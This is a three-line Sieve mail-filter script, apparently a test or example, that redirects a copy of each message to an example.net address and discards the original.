require "copy";
redirect :copy "x@example.net";
discard;
